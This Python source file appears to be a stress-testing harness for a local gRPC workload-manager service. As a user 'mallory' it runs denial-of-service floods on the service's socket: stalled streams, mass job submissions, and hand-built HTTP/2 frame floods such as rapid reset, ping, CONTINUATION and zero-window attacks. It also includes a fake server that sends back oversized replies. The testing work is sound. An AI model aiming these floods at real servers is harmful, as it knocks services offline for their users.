"""Ways in which a user of the login node who may open the socket of red-box harms it, by calls and by frames of HTTP/2; and a red-box that its account plays.

bridge_floods.py FOLDER plays that red-box, at FOLDER/socket.
"""

import itertools
import os
import pathlib
import random
import socket
import struct
import sys
import threading
import time
from concurrent import futures

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "cluster"))
import campaign  # noqa: E402
from bridge_attacks import PlayedRedBox  # noqa: E402
from bridge_world import HOME, IDS, SOCKET  # noqa: E402
from messages import fields, message, varint  # noqa: E402

SERVICE = "/api.WorkloadManager/"


def as_user(name):
    """This process is a user of the login node from now on, in the group of red-box."""
    os.setgroups([IDS["bridge"]])
    os.setgid(IDS[name])
    os.setuid(IDS[name])


class OnSocket(campaign.Attack):
    """A user of its own, by which red-box tells clients apart."""

    def __init__(self, ns, host):
        self.ns, self.host = ns, host

    def begin(self):
        as_user("mallory")


# ---------------------------------------------------------------- calls


class Calls(OnSocket):
    """Connections of grpc, each of its own."""

    CONNECTIONS = 8

    def begin(self):
        super().begin()
        import grpc  # not before the fork: it has threads
        self.channels = [grpc.insecure_channel(f"unix:{SOCKET}", [("grpc.use_local_subchannel_pool", 1)]) for _ in range(self.CONNECTIONS)]
        self.Error = grpc.RpcError

    def end(self):
        for channel in getattr(self, "channels", []):
            channel.close()


class DeafStreams(Calls):
    """A thousand files that are opened and tailed, of which nothing is read."""

    STREAMS = 1000
    FILE = HOME / "streams"

    def begin(self):
        with open(self.FILE, "wb") as f:
            f.truncate(1 << 30)
        super().begin()
        self.never, self.calls = threading.Event(), []

    def asks(self):
        yield message(f2=self.FILE.name)
        self.never.wait()

    def stream(self, n):
        channel = self.channels[n % self.CONNECTIONS]
        if n % 2:
            return channel.unary_stream(SERVICE + "OpenFile")(message(f1=self.FILE.name))
        return channel.stream_stream(SERVICE + "TailFile")(self.asks())

    def turn(self):
        self.calls = [call for call in self.calls if not call.done()]
        self.calls += [self.stream(n) for n in range(min(100, self.STREAMS - len(self.calls)))]

    def end(self):
        self.never.set()
        super().end()


class ManyKeys(Calls):
    """A new client_id with each submission, and scripts that Slurm refuses: 300 at a time."""

    pause_s = 0.0
    AT_A_TIME = 300

    def begin(self):
        super().begin()
        self.calls, self.refused = [], 0

    def submit(self, n):
        key = f"mallory-{os.getpid()}-{self.turns}-{n}"
        ask = message(f1="#!/bin/sh\n#SBATCH --nodes=foo\ntrue\n", f2="bad", f3=key)
        return self.channels[n % self.CONNECTIONS].unary_unary(SERVICE + "SubmitJob").future(ask)

    def turn(self):
        self.calls = [call for call in self.calls if not call.done()]
        self.calls += [self.submit(n) for n in range(self.AT_A_TIME - len(self.calls))]
        time.sleep(0.1)


# ---------------------------------------------------------------- frames

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, content=b""):
    return struct.pack(">I", len(content))[1:] + struct.pack(">BBI", kind, flags, stream) + content


def header(name, value):
    """A literal that is not kept."""
    def text(t):
        return varint(len(t)) if len(t) < 127 else b"\x7f" + varint(len(t) - 127)
    return b"\0" + text(name) + name + text(value) + value


def head(method, more=()):
    rows = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", (SERVICE + method).encode()), (b":authority", b"x"), (b"content-type", b"application/grpc"), (b"te", b"trailers")]
    return b"".join(header(*row) for row in [*rows, *more])


def streams(n):
    return range(1, 2 * n, 2)


def rapid_reset():
    for s in streams(3000):
        yield frame(HEADERS, END_HEADERS, s, head("JobInfo")) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))


def calls_and_resets():
    ask = message(f2="nobody")
    whole = b"\0" + struct.pack(">I", len(ask)) + ask
    for s in streams(1000):
        yield frame(HEADERS, END_HEADERS, s, head("JobInfo")) + frame(DATA, END_STREAM, s, whole) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))


def pings():
    for _ in range(20_000):
        yield frame(PING, 0, 0, b"x" * 8)


def settings():
    for i in range(5000):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1000 + i))


def large_headers():
    for s in streams(200):
        yield frame(HEADERS, END_HEADERS, s, head("JobInfo", [(b"x-%d" % i, b"v" * 3000) for i in range(5)]))


def continuations():
    yield frame(HEADERS, 0, 1, head("JobInfo"))
    for i in range(500):
        yield frame(CONTINUATION, 0, 1, header(b"x-%d" % i, b"v" * 8000))


def half_messages():
    """Each says that 4 MB come, and sends some of it."""
    for s in streams(500):
        yield frame(HEADERS, END_HEADERS, s, head("SubmitJob")) + frame(DATA, 0, s, b"\0" + struct.pack(">I", 4_000_000) + b"x" * 2000)


def no_window():
    """Answers find no room."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for s in streams(900):
        yield frame(HEADERS, END_HEADERS, s, head("Partitions")) + frame(DATA, END_STREAM, s, b"\0" * 5)


def windows():
    for s in itertools.islice(itertools.cycle(streams(50)), 5000):
        yield frame(WINDOW_UPDATE, 0, s, struct.pack(">I", 1))


def noise():
    for _ in range(200):
        yield random.randbytes(1000)


class Frames(OnSocket):
    """Floods below the calls: each on a connection of its own, which then stays as long as red-box lets it."""

    FLOODS = [rapid_reset, calls_and_resets, pings, settings, large_headers, continuations, half_messages, no_window, windows, noise]
    pause_s = 0.1

    def begin(self):
        super().begin()
        self.held = []

    def turn(self):
        wire = socket.socket(socket.AF_UNIX)
        wire.settimeout(1)
        try:
            wire.connect(str(SOCKET))
            wire.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for piece in self.FLOODS[self.turns % len(self.FLOODS)]():
                wire.sendall(piece)
        except OSError:
            pass  # red-box has seen enough of it, or takes no more
        self.held.append(wire)
        if len(self.held) > 40:
            self.held.pop(0).close()


WAVES = [[PlayedRedBox, DeafStreams, ManyKeys, Frames]]


# ---------------------------------------------------------------- a red-box that is played


RECORDS = 250_000


class Played:
    """Submissions have a number, and each job has as many records as an answer may have bytes for."""

    def __init__(self, folder):
        self.folder = pathlib.Path(folder)
        self.records = b"".join(b"\x0a" + varint(len(r)) + r for r in (message(f1=str(100_000 + i), f17="7") for i in range(RECORDS)))

    def job_info(self, ask, _):
        key = fields(ask).get(2, [b""])[0]
        (self.folder / "asked").touch()
        first = message(f1="7", f18=key, f19="RUNNING")
        return b"\x0a" + varint(len(first)) + first + self.records

    def serve(self):
        import grpc
        os.umask(0)
        answers = {"SubmitJob": lambda *_: message(f1=7), "JobInfo": self.job_info, "CancelJob": lambda *_: b"", "CloseSubmission": lambda *_: b"",
                   "WorkloadInfo": lambda *_: message(f1="slurm", f2="24.11.5"), "Partitions": lambda *_: message(f1="bad"), "Resources": lambda *_: message(f1=1, f2=1)}
        handlers = {name: grpc.unary_unary_rpc_method_handler(answer) for name, answer in answers.items()}
        server = grpc.server(futures.ThreadPoolExecutor(8), [grpc.method_handlers_generic_handler("api.WorkloadManager", handlers)])
        server.add_insecure_port(f"unix:{self.folder}/socket")
        server.start()
        server.wait_for_termination()


if __name__ == "__main__":
    Played(sys.argv[1]).serve()
